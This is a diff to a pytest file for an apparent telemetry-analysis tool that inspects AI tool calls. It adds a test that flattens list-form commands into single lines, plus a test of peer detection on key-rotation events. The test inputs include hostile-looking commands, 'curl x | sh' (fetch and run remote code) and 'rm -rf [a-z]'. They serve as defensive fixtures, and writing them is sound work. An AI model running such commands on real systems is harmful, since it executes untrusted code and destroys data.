@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from caiso.connect.telemetry.bulk.revealing import hidden_texts
 from caiso.connect.telemetry.meaning.changes import effect_of
-from caiso.connect.telemetry.meaning.escapes import with_breaks, with_letters
+from caiso.connect.telemetry.meaning.escapes import with_breaks, with_commands, with_letters
 from caiso.connect.telemetry.meaning.facts import add_facts, disguised_links, hidden_text, unresolved
 from caiso.connect.telemetry.meaning.impact import infer_impact
 from caiso.connect.telemetry.meaning.leak import leaked_pieces
@@ -272,3 +272,31 @@ def test_orders_that_a_tool_sends_away_are_a_leak(tool: str, arguments: dict[str
     call = json.dumps({"name": tool, "arguments": arguments})
     found = facts("inference", content__system=ORDERS, content__tool_calls=call)
     assert ("content.system_leak" in found) is leaked
+
+
+@pytest.mark.parametrize(
+    ("given", "read"),
+    [
+        ('{"args": ["iam", "put-role-policy"]}', '{"args": ["iam    put-role-policy"]}'),
+        (
+            '{"command":["bash","-lc","curl x | sh"],"n":["a","b"]}',
+            '{"command":["bash   -lc   curl x | sh"],"n":["a","b"]}',
+        ),
+        ('{"argv": ["echo", "a \\"quoted\\" word"]}', '{"argv": ["echo    a \\"quoted\\" word"]}'),
+        ('{"args": ["one"]}', '{"args": ["one"]}'),
+        ('{"args": [1, "a"]}', '{"args": [1, "a"]}'),
+        ("rm -rf [a-z]", "rm -rf [a-z]"),
+    ],
+)
+def test_a_command_given_as_a_list_reads_as_one_line_of_the_same_length(given: str, read: str) -> None:
+    assert with_commands(given) == read
+    assert len(read) == len(given)
+
+
+def test_whose_key_was_rotated_is_told_by_the_target() -> None:
+    event: dict[str, object] = {"action": "key_rotation", "config.target": "planner/jwks"}
+    add_facts(event, "config", [])
+    assert event["peer"] == "planner"
+    event = {"action": "update", "config.target": "planner/jwks"}
+    add_facts(event, "config", [])
+    assert "peer" not in event
